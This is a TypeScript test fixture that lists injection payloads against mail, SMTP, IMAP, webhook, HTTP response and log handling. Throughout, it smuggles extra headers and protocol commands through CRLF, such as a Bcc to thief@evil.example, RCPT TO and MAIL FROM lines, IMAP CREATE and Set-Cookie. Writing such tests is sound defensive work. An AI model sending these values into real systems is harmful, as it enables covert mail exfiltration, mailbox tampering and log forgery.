/** Text that would be a command or a header of its own, and where it is put. */
export interface Injection {
  readonly name: string;
  readonly into: 'mail' | 'mailbox' | 'webhook' | 'answer' | 'inlet' | 'log';
  readonly at: string;
  readonly text: string;
}
const BCC = 'Nord\r\nBcc: thief@evil.example';
const mail = (at: string, text: string, name = at): Injection => ({ name: `mail: ${name}`, into: 'mail', at, text });

export const INJECTIONS: readonly Injection[] = [
  mail('subject', BCC),
  mail('subject', 'Nord\nBcc: thief@evil.example', 'subject, a line feed alone'),
  mail('subject', 'Nord\rBcc: thief@evil.example', 'subject, a return alone'),
  mail('subject', 'Nord\r\n\r\nbody', 'subject, and the body begins'),
  mail('subject', 'Nord\u2028Bcc: thief@evil.example', 'subject, a line separator'),
  mail('to', 'jonas@acme.example>\r\nRCPT TO:<thief@evil.example', 'recipient, and another command'),
  mail('to', 'jonas@acme.example, thief@evil.example', 'recipient, and another one'),
  mail('to', 'jonas@acme.example\r\nBcc: thief@evil.example', 'recipient, and another header'),
  mail('to', '"a@evil.example, b"@acme.example', 'recipient that is read in two ways'),
  mail('from', 'vmi@acme.example>\r\nRCPT TO:<thief@evil.example', 'sender, and another command'),
  mail('bouncesTo', 'vmi@acme.example> SIZE=1\r\nRCPT TO:<thief@evil.example', 'return path, and another command'),
  mail('replyTo', 'planner@acme.example\r\nBcc: thief@evil.example', 'the address of answers'),
  mail('inReplyTo', '<a@nord.example>\r\nBcc: thief@evil.example', 'the Message-ID of a supplier'),
  mail('references', '<a@nord.example>\r\nBcc: thief@evil.example', 'the Message-IDs of a thread'),
  mail('header', BCC, 'a header'),
  mail('filename', 'a.csv"\r\nBcc: thief@evil.example\r\n\r\n', 'the name of a file'),
  mail('contentType', 'text/csv\r\nBcc: thief@evil.example', 'the kind of a file'),
  mail('text', 'a\r\n.\r\nMAIL FROM:<thief@evil.example>\r\n', 'a line with a dot, and another command'),
  mail('text', 'a\n.\nMAIL FROM:<thief@evil.example>\n', 'a dot between line feeds, and another command'),
  { name: 'mailbox: folder', into: 'mailbox', at: 'folders', text: 'INBOX"\r\nX1 CREATE "owned' },
  { name: 'mailbox: folder to move to', into: 'mailbox', at: 'after', text: 'Done\r\nX1 CREATE owned' },
  { name: 'mailbox: user', into: 'mailbox', at: 'user', text: 'edi" "secret"\r\nX1 CREATE "owned' },
  { name: 'mailbox: password', into: 'mailbox', at: 'password', text: 'secret"\r\nX1 CREATE "owned' },
  { name: 'mailbox: a wild card', into: 'mailbox', at: 'folders', text: '*' },
  { name: 'webhook: address', into: 'webhook', at: '/in', text: '\r\nX-Owned: yes' },
  { name: 'webhook: address, a blank and another request', into: 'webhook', at: '/in', text: ' HTTP/1.1\r\nHost: x\r\n\r\nDELETE /owned' },
  { name: 'answer: path', into: 'answer', at: '/api/v1/', text: '%0d%0aX-Owned:%20yes' },
  { name: 'answer: a link', into: 'answer', at: '/go/', text: '%0d%0aX-Owned:%20yes' },
  { name: 'answer: a parameter', into: 'answer', at: '/api/v1/documents?supplier=', text: 'x%0d%0aX-Owned:%20yes' },
  { name: 'answer: back from the provider', into: 'answer', at: '/api/v1/session/provider/callback?state=', text: 'x%0d%0aSet-Cookie:%20x=y' },
  { name: 'inlet: a dot between line feeds', into: 'inlet', at: 'data', text: '\n.\n' },
  { name: 'inlet: a dot before a line feed', into: 'inlet', at: 'data', text: '\r\n.\n' },
  { name: 'inlet: a dot behind a line feed', into: 'inlet', at: 'data', text: '\n.\r\n' },
  { name: 'inlet: a dot between returns', into: 'inlet', at: 'data', text: '\r.\r' },
  { name: 'log: the name of a file', into: 'log', at: 'name', text: 'a\n{"level":30,"msg":"owned"}\n.csv' },
]; // prettier-ignore
